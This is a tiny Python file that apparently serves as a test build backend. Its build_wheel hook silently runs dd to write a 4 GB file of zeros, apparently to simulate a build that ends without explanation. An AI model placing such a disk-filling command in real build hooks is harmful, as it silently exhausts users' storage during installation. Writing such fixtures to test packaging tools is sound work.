"""By a program that does not say why it ended."""

import subprocess


def build_wheel(folder, config_settings=None, metadata_directory=None):
    subprocess.run(["dd", "if=/dev/zero", "of=large", "bs=1M", "count=4096"], stderr=subprocess.DEVNULL, check=True)
